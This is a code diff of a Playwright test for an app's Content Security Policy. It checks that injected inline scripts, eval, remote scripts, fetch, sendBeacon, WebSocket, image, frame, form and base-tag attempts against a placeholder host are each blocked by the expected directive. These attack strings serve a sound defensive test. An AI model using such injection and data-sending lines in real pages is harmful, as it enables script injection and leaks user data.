@@ -1,53 +1,50 @@
-import { once } from 'node:events'
-import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
 import type { Page } from '@playwright/test'
-import { expect, test } from './app.ts'
-import { row } from './window.ts'
+import { expect } from './app.ts'
+import { test } from './elsewhere.ts'
 
-interface Elsewhere {
-  readonly url: string
-  readonly asked: readonly string[]
-}
+/** What a script that got into the page would try, and the directive that has to stop it. */
+const attacks: readonly (readonly [what: string, script: string, directive: string])[] = [
+  ['an inline script', `put('script', { textContent: 'window.hit = true' })`, 'script-src-elem'],
+  ['a script from elsewhere', `put('script', { src: 'http://ADDRESS/script' })`, 'script-src-elem'],
+  [
+    'a handler in markup',
+    `put('div', { innerHTML: '<b onclick="window.hit = true">' }).firstChild.click()`,
+    'script-src-attr',
+  ],
+  ['eval', `window.hit = eval('true')`, 'script-src'],
+  ['a function made of text', `window.hit = new Function('return true')()`, 'script-src'],
+  ['a request', `fetch('http://ADDRESS/fetch').catch(() => {})`, 'connect-src'],
+  ['a beacon', `navigator.sendBeacon('http://ADDRESS/beacon', 'secret')`, 'connect-src'],
+  ['a WebSocket', `new WebSocket('ws://ADDRESS/socket')`, 'connect-src'],
+  ['an image', `put('img', { src: 'http://ADDRESS/image' })`, 'img-src'],
+  ['a frame', `put('iframe', { src: 'http://ADDRESS/frame' })`, 'frame-src'],
+  ['a form', `put('form', { action: 'http://ADDRESS/form' }).submit()`, 'form-action'],
+  ['another base', `put('base', { href: 'http://ADDRESS/' })`, 'base-uri'],
+]
 
-/** A server the page has no business with. */
-const withElsewhere = test.extend<{ elsewhere: Elsewhere }>({
-  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures needed off the pattern
-  elsewhere: async ({}, use) => {
-    const asked: string[] = []
-    const server = createServer((request, response) => {
-      asked.push(request.url ?? '')
-      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x')
-    })
-    server.listen(0, '127.0.0.1')
-    await once(server, 'listening')
-    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked })
-    server.closeAllConnections()
-    server.close()
-  },
-})
-
-/** What the page's policy blocked while `act` went on in it: the directives, in order. */
-function blockedBy(page: Page, act: (address: string) => void, address = ''): Promise<string> {
-  return page.evaluate(
-    ([source, address]) =>
-      new Promise<string>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
-          once: true,
-        })
-        // A task of its own: what a debugger evaluates is let past the policy.
-        setTimeout(() => (window as unknown as { act: (address: string) => void }).act(address ?? ''))
-        void source
-      }),
-    ['', address] as const,
-  )
+/** Runs a script in the page and answers the directive that it ran into. */
+function directiveAgainst(page: Page, script: string): Promise<string> {
+  // In a task of its own: what a debugger evaluates itself is let past the policy.
+  return page.evaluate(`new Promise((resolve) => {
+    const put = (name, parts) => document.body.appendChild(Object.assign(document.createElement(name), parts))
+    const whenBlocked = (event) => resolve(event.effectiveDirective)
+    document.addEventListener('securitypolicyviolation', whenBlocked, { once: true })
+    setTimeout(() => { ${script} })
+  })`)
 }
 
 test('the page has nothing of Node', async ({ app: { page } }) => {
-  const found = await page.evaluate(() =>
-    ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].filter(
-      (name) => name in window,
-    ),
-  )
-  expect(found).toEqual([])
+  const names = ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'ipcRenderer', 'electron']
+  expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([])
+})
+
+test('the policy of the page stops code from outside, and data on its way there', async ({ app, elsewhere }) => {
+  for (const [what, script, directive] of attacks) {
+    await test.step(what, async () => {
+      const stoppedBy = await directiveAgainst(app.page, script.replaceAll('ADDRESS', elsewhere.address))
+      expect(stoppedBy, what).toBe(directive)
+    })
+  }
+  expect(await app.page.evaluate(() => 'hit' in window)).toBe(false)
+  expect(elsewhere.asked).toEqual([])
 })
